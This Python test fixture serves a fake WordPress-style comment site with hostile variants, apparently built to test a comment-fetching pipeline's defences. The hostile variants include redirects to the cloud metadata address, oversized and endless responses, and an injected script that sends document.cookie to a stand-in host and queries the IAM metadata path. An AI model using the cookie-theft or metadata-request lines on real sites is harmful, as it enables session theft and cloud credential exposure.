"""Fixture sites for comments that load after the page, served on 127.0.0.1 by DemoServer routes.

- ``/2026/11/harbour-cranes/``: a WordPress-like post with one comment in its HTML, a REST API
  (``/wp-json/wp/v2/comments?post=42``, two comments a page) and a per-post comments feed;
- the same API under hostile roots: ``/html/`` answers HTML, ``/fail/`` 500, ``/huge/`` 50 MB of
  JSON, ``/endless/`` a new page forever, ``/metadata/`` and ``/private/`` redirect to
  169.254.169.254 and 127.0.0.2;
- ``/ferry.html``: comments loaded by a script from ``/api/ferry-comments.json``;
- ``/hostile.html``: a script that calls 127.0.0.2 and 169.254.169.254 (and loads its comments).
"""

from __future__ import annotations

import json
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from urllib.parse import parse_qs, urlsplit

from pipeline.demo.server import DemoServer

SITE = Path(__file__).resolve().parents[1] / "fixtures" / "comment_sites"
POST_PATH = "/2026/11/harbour-cranes/"
PER_PAGE = 2

REST_COMMENTS = [
    {"id": 7, "post": 42, "parent": 0, "author_name": "Marta Lind", "date_gmt": "2026-11-20T08:15:00",
     "type": "comment",
     "content": {"rendered": "<p>My grandfather drove the second crane for thirty years. Good to see it moving.</p>"}},
    {"id": 9, "post": 42, "parent": 0, "author_name": "Per Holm", "date_gmt": "2026-11-21T17:02:00",
     "type": "comment", "content": {"rendered": "<p>Who pays for the rails in the end? The town, as always.</p>"}},
    {"id": 11, "post": 42, "parent": 9, "author_name": "Marta Lind", "date_gmt": "2026-11-22T10:30:00",
     "type": "comment", "content": {"rendered": "<p>The port pays half, the <em>state</em> the rest.</p>"}},
    {"id": 12, "post": 42, "parent": 0, "author_name": "Coastal Weekly", "date_gmt": "2026-11-23T12:00:00",
     "type": "pingback", "content": {"rendered": "<p>[…] the cranes of the old harbour moved again […]</p>"}},
]


def _send(handler: BaseHTTPRequestHandler, status: int, body: bytes, content_type: str,
          headers: dict[str, str] | None = None) -> None:
    handler._send(status, body, content_type, headers)  # the demo server's own response writer


def _page_number(handler: BaseHTTPRequestHandler) -> int:
    return int(parse_qs(urlsplit(handler.path).query).get("page", ["1"])[0])


def _file(name: str, base: str) -> bytes:
    return (SITE / name).read_bytes().replace(b"{{BASE}}", base.encode())


def comment_site(private_base: str = "http://127.0.0.2:9", latency_s: float = 0.0) -> DemoServer:
    """The fixture server (not started); ``private_base`` is where the hostile page's script calls."""
    server = DemoServer(SITE, latency_s=latency_s)
    base = server.base_url

    def post(h):
        _send(h, 200, _file("wordpress_post.html", base), "text/html; charset=utf-8")

    def feed(h):
        _send(h, 200, _file("wordpress_feed.xml", base), "application/rss+xml; charset=utf-8")

    def comments(h):
        page = _page_number(h)
        rows = REST_COMMENTS[(page - 1) * PER_PAGE: page * PER_PAGE]
        if not rows:
            _send(h, 400, b'{"code": "rest_comment_invalid_page_number"}', "application/json")
            return
        total = (len(REST_COMMENTS) + PER_PAGE - 1) // PER_PAGE
        _send(h, 200, json.dumps(rows).encode(), "application/json; charset=UTF-8",
              {"X-WP-Total": str(len(REST_COMMENTS)), "X-WP-TotalPages": str(total)})

    def answers_html(h):
        _send(h, 200, b"<html><body><h1>Log in</h1></body></html>", "text/html; charset=utf-8")

    def fails(h):
        _send(h, 500, b"Internal Server Error", "text/plain")

    def huge(h):
        row = json.dumps({"id": 1, "content": {"rendered": "x" * 1000}}).encode()
        chunk = b",".join([row] * 1000)  # ~1 MB
        h.send_response(200)
        h.send_header("Content-Type", "application/json")
        h.send_header("Content-Length", str(50 * (len(chunk) + 1) + 1))
        h.end_headers()
        try:
            h.wfile.write(b"[")
            for i in range(50):
                h.wfile.write(chunk + (b"," if i < 49 else b"]"))
        except (BrokenPipeError, ConnectionResetError):
            pass  # the client stopped reading at its limit, as it should

    def endless(h):
        page = _page_number(h)
        rows = [{"id": 1000 + page * 10 + i, "parent": 0, "author_name": f"bot{page}", "type": "comment",
                 "date_gmt": "2026-11-20T00:00:00", "content": {"rendered": f"<p>page {page} item {i}</p>"}}
                for i in range(100)]
        _send(h, 200, json.dumps(rows).encode(), "application/json", {"X-WP-TotalPages": "99999"})

    def redirect(target):
        def answer(h):
            _send(h, 302, b"", "text/plain", {"Location": target})
        return answer

    def ferry(h):
        _send(h, 200, _file("script_comments.html", base), "text/html; charset=utf-8")

    def hostile(h):
        page = _file("script_comments.html", base).replace(
            b"fetch('/api/ferry-comments.json')",
            (f"fetch('{private_base}/steal?c=' + document.cookie).catch(function () {{}});\n"
             f"fetch('http://169.254.169.254/latest/meta-data/iam/').catch(function () {{}});\n"
             f"new Image().src = '{private_base}/pixel.gif';\n"
             "fetch('/api/ferry-comments.json')").encode())
        _send(h, 200, page, "text/html; charset=utf-8")

    server.add_route(POST_PATH, post)
    server.add_route(POST_PATH + "feed/", feed)
    server.add_route("/wp-json/wp/v2/comments", comments)
    server.add_route("/html/wp-json/wp/v2/comments", answers_html)
    server.add_route("/fail/wp-json/wp/v2/comments", fails)
    server.add_route("/huge/wp-json/wp/v2/comments", huge)
    server.add_route("/endless/wp-json/wp/v2/comments", endless)
    server.add_route("/metadata/wp-json/wp/v2/comments", redirect("http://169.254.169.254/latest/meta-data/"))
    server.add_route("/private/wp-json/wp/v2/comments", redirect(f"{private_base}/wp-json/wp/v2/comments"))
    server.add_route("/ferry.html", ferry)
    server.add_route("/hostile.html", hostile)
    server.add_route("/api/ferry-comments.json", lambda h: _send(h, 200, (SITE / "ferry-comments.json").read_bytes(),
                                                                 "application/json"))
    return server
